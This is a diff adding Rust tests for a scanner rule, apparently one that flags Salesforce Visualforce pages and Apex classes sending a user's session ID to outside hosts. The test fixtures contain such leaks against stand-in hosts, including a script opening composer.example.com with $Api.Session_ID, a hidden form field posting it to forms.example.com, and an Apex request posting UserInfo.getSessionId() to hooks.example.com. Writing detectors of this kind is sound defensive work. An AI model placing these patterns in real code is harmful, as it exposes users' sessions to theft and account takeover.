@@ -306,6 +306,67 @@ mod tests {
         );
     }
 
+    fn markup(body: &str) -> Vec<(&'static str, String)> {
+        vec![(PAGE, format!("<apex:page>\n{body}\n</apex:page>\n"))]
+    }
+
+    /// Shapes a public org's pages hid: an immediately invoked function, a script after a
+    /// self-closed `<script src=.../>`, a hidden form field posted to another host.
+    #[test]
+    fn invoked_functions_scripts_after_self_closed_tags_and_form_fields() {
+        let iife = "(function () {\n    var congaUrl = 'https://composer.example.com/?sessionId={!$Api.Session_ID}';\n    var emailUrl = congaUrl + '&email=1';\n    window.open(emailUrl);\n})();";
+        cases(
+            "session-id-to-external",
+            &[
+                markup(&format!(
+                    "<script>\n{}\n</script>",
+                    iife.replace("https://composer.example.com/", "/apex/Composer")
+                )),
+                markup(
+                    "<script src=\"https://cdn.example.com/jq.js\"/>\n<script>\nvar u = '/apex/Print?sid={!$Api.Session_ID}';\nwindow.open(u);\n</script>",
+                ),
+                markup(
+                    "<form action=\"/apex/Local\" method=\"post\">\n<input type=\"hidden\" name=\"sid\" value=\"{!$Api.Session_ID}\"/>\n</form>",
+                ),
+                markup(
+                    "<form method=\"post\"><input type=\"hidden\" name=\"sid\" value=\"{!GETSESSIONID()}\"/></form>",
+                ),
+                markup(
+                    "<form action=\"https://forms.example.com/in\"></form>\n<input type=\"hidden\" name=\"sid\" value=\"{!$Api.Session_ID}\"/>",
+                ),
+            ],
+            &[
+                markup(&format!("<script>\n{iife}\n</script>")),
+                markup(
+                    "<script src=\"https://cdn.example.com/jq.js\"/>\n<script>\nvar u = 'https://app.example.com/x?sid={!$Api.Session_ID}';\nwindow.open(u);\n</script>",
+                ),
+                markup(
+                    "<FORM Method=\"post\" ACTION = 'https://forms.example.com/in'>\n<input type=\"hidden\" name=\"sid\" value=\"{!$Api.Session_ID}\"/>\n</FORM>",
+                ),
+            ],
+        );
+    }
+
+    #[test]
+    fn a_long_concatenation_is_decided_by_its_first_part() {
+        let parts: String = (0..15).map(|i| format!(" +\n    '&p{i}={{!Account.Id}}'")).collect();
+        let js = format!("var u = 'https://composer.example.com/?sid={{!$Api.Session_ID}}'{parts};\nwindow.open(u);");
+        let hits = run("session-id-to-external", &page(&js));
+        assert_eq!(hits.len(), 1, "{hits:?}");
+        assert!(
+            hits[0].message.contains("`composer.example.com`"),
+            "{}",
+            hits[0].message
+        );
+        let apex = format!(
+            "public class Push {{\n  void m(String a) {{\n    HttpRequest r = new HttpRequest();\n    r.setEndpoint('https://hooks.example.com/in?x=' {});\n    r.setBody(UserInfo.getSessionId());\n    new Http().send(r);\n  }}\n}}",
+            " + a".repeat(15)
+        );
+        let hits = run("session-id-to-external", &[(CLASS, apex)]);
+        assert_eq!(hits.len(), 1, "{hits:?}");
+        assert!(hits[0].message.contains("`hooks.example.com`"), "{}", hits[0].message);
+    }
+
     #[test]
     fn javascript_comments_suppress() {
         let files = lwc(
